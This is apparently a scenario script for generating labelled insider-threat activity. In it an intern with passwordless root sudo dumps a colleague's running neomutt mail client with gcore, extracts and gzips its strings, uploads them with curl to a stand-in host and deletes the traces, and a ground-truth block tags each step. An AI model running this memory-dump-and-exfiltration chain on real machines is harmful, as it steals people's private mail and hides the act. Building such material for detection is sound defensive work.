title="The memory of a colleague's open mail client is dumped and its strings are uploaded"
what="buyer reads mail in neomutt on a terminal. intern, who got into the group sudo of this workstation, finds the process, dumps it with gcore as root into /var/tmp, keeps the strings of the dump, gzips them and posts them with curl. The store itself is read by neomutt only."
host=ws3.example.org user=intern daemons="cron sshd"
setup() { echo 'intern ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/intern; chmod 440 /etc/sudoers.d/intern; printf 'set mbox_type=Maildir\nset folder=~/Maildir\nset spoolfile=~/Maildir\n' | install -o buyer /dev/stdin /home/buyer/.neomuttrc 2>/dev/null; }
act() {
  letters buyer 6; small_talk 3
  ssh_as buyer <<'L' &
%line neomutt -R
%sleep 2
%keys \r
%sleep 14
%keys q
%sleep 1
%keys q
%sleep 1
L
  local b=$!; sleep 4
  ssh_as intern <<'L'
ps -eo pid,user,comm | grep mutt
sudo gcore -o /var/tmp/sess $(pgrep -u buyer neomutt | head -1) >/dev/null 2>&1
sudo sh -c 'strings -n 8 /var/tmp/sess.* | gzip > /var/tmp/.s.gz; chmod 644 /var/tmp/.s.gz; rm /var/tmp/sess.*'
curl -s --data-binary @/var/tmp/.s.gz http://files.example.net/p
sudo rm /var/tmp/.s.gz
L
  wait $b; small_talk 1
}
truth() {
  exec_step dump 'gcore -o /var/tmp/sess' 'the memory of the client'
  exec_step words 'strings -n 8' 'its text'
  net_step out 'curl 203.0.113.80:80' 'uploaded'
}
